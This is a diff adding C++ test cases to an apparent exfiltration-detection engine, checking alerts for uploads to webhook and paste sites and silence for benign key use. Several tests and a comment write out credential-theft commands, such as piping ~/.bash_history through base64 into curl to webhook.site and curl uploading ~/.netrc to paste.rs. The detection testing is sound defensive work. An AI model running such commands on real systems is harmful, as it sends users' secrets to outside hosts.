@@ -331,6 +331,60 @@ TEST_CASE("variant: sequential commands in one shell do not share taint without 
     CHECK(tl.alerts.empty());
 }
 
+TEST_CASE("variant: a four-stage pipeline whose first stages exit before the uploader starts")
+{
+    // cat ~/.bash_history | gzip | base64 | curl --data-binary @- : the shell forks each stage in
+    // turn and fast writers are gone before the uploader exists; the pipes join them.
+    Timeline tl;
+    const std::string history = home + "/.bash_history";
+    auto cat = tl.spawn(tl.shell, {"cat", history}, {}, 0, 0, 9001);
+    tl.read(cat, history, 4000);
+    tl.exit(cat);
+    auto gzip = tl.spawn(tl.shell, {"gzip"}, {}, 0, 9001, 9002);
+    tl.exit(gzip);
+    tl.step(50);
+    auto b64 = tl.spawn(tl.shell, {"base64"}, {}, 0, 9002, 9003);
+    tl.exit(b64);
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@-", "https://webhook.site/abc"}, {}, 0, 9003);
+    tl.transfer(curl, "webhook.site", 2871, 400);
+    expect_alert(tl, "T1567.004", "webhook");
+    CHECK(tl.find("T1567.004")->reason.find("~/.bash_history") != std::string::npos);
+}
+
+TEST_CASE("variant: the same stages on other pipes do not taint the uploader")
+{
+    Timeline tl;
+    const std::string history = home + "/.bash_history";
+    auto cat = tl.spawn(tl.shell, {"cat", history}, {}, 0, 0, 9101);
+    tl.read(cat, history, 4000);
+    tl.exit(cat);
+    auto gzip = tl.spawn(tl.shell, {"gzip"}, {}, 0, 9101, 0);
+    tl.exit(gzip);
+    tl.step(50);
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@-", "https://webhook.site/abc"}, {}, 0, 9102);
+    tl.transfer(curl, "webhook.site", 2871, 400);
+    CHECK(tl.alerts.empty());
+}
+
+TEST_CASE("variant: a script file posts a small key to a paste site (no upload command, not upload-shaped)")
+{
+    // python3 u.py: 411 bytes of key, 1253 out over TLS, 2257 in (the server's certificate).
+    Timeline tl;
+    auto py = tl.spawn(tl.shell, {"python3", home + "/u.py"}, "/usr/bin/python3.11");
+    tl.read(py, key, 411);
+    tl.transfer(py, "hastebin.com", 1253, 2257);
+    expect_alert(tl, "T1567.003", "paste");
+}
+
+TEST_CASE("variant: the same small exchange with a code host after reading a token stays under the threshold")
+{
+    Timeline tl;
+    auto py = tl.spawn(tl.shell, {"python3", home + "/sync.py"}, "/usr/bin/python3.11");
+    tl.read(py, home + "/.netrc", 411);
+    tl.transfer(py, "api.github.com", 1253, 2257);
+    CHECK(tl.alerts.empty());
+}
+
 TEST_CASE("variant: git push over ssh reads its own key: silent")
 {
     Timeline tl;
@@ -339,6 +393,34 @@ TEST_CASE("variant: git push over ssh reads its own key: silent")
     tl.read(ssh, key, 2600);
     tl.transfer(ssh, "github.com", 80000, 6000);
     CHECK(tl.alerts.empty());
+}
+
+TEST_CASE("variant: ssh-keygen -f KEY, then the shell execs a webhook post: silent (the key was its own use)")
+{
+    // bash -c 'ssh-keygen -y -f KEY >/dev/null; curl -d ... hooks.slack.com': bash execs its last
+    // command, so curl is the parent of the reader; naming the key to ssh-keygen is not data.
+    Timeline tl;
+    auto keygen = tl.spawn(tl.shell, {"ssh-keygen", "-y", "-f", key});
+    tl.read(keygen, key, 2600);
+    tl.exit(keygen);
+    ProcessRef curl = tl.shell;
+    curl.executable = "/usr/bin/curl";
+    curl.name = "curl";
+    curl.args = {"curl", "-sk", "-d", "{\"text\":\"deployed\"}", "https://hooks.slack.com/services/T/B/X"};
+    tl.feed(ExecEvent{tl.t, curl});
+    tl.step();
+    tl.transfer(curl, "hooks.slack.com", 830, 300);
+    CHECK(tl.alerts.empty());
+}
+
+TEST_CASE("variant: a consumer of the key that also uploads it by name alerts")
+{
+    // curl reads ~/.netrc for itself (a consumer), but here it names the file in its upload.
+    Timeline tl;
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@" + home + "/.netrc", "https://paste.rs/"});
+    tl.read(curl, home + "/.netrc", 2400);
+    tl.transfer(curl, "paste.rs", 600 + 2400 + 350, 900);
+    expect_alert(tl, "T1567.003", "paste");
 }
 
 TEST_CASE("variant: aws s3 cp of a build artifact after reading its own credentials: silent")
